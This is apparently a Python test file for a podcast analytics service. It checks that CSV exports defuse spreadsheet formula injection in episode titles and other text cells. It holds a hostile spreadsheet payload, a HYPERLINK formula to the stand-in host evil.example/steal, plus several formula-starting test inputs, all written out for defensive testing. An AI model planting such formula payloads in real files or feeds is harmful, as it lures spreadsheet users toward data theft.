"""Analytics CSV exports defuse spreadsheet formulas in every text cell (episode titles come from feeds)."""

from __future__ import annotations

import csv
import io

import httpx

from castmetrics.http.spreadsheet import cell

PAYLOAD = '=HYPERLINK("https://evil.example/steal","Click for bonus content")'


def test_text_cells_starting_like_a_formula_get_a_leading_quote() -> None:
    for payload in ("=1+1", "+1", "-1+A1", "@SUM(A1)", "\tx", "\rx"):
        assert cell(payload) == "'" + payload
    assert cell("Episode 12") == "Episode 12"
    assert cell(-3) == -3 and cell(-2.5) == -2.5  # numbers stay numbers
    assert cell(None) == "" and cell(True) == "true"


async def test_top_episodes_and_launch_curves_csv_defuse_a_hostile_title(client: httpx.AsyncClient, traffic) -> None:  # type: ignore[no-untyped-def]
    # given an episode whose title a third-party feed set to a formula
    owner = traffic.show.team.auth("owner")
    episode_id = traffic.show.episode_ids[0]
    renamed = await client.patch(f"/v1/episodes/{episode_id}", json={"title": PAYLOAD}, headers=owner)
    assert renamed.status_code == 200, renamed.text
    for path in ("top-episodes", "launch"):
        # when the analytics are exported as CSV
        response = await client.get(
            f"/v1/analytics/podcasts/{traffic.show.podcast_id}/{path}",
            params={"from": traffic.days[-1].isoformat(), "to": traffic.days[0].isoformat()},
            headers={**owner, "Accept": "text/csv"},
        )
        assert response.status_code == 200, response.text
        cells = [value for row in csv.reader(io.StringIO(response.text)) for value in row]
        # then the title arrives as text, and no cell starts a formula
        assert "'" + PAYLOAD in cells, (path, cells[:20])
        assert not [value for value in cells if value.startswith(("=", "+", "@", "\t", "\r"))]
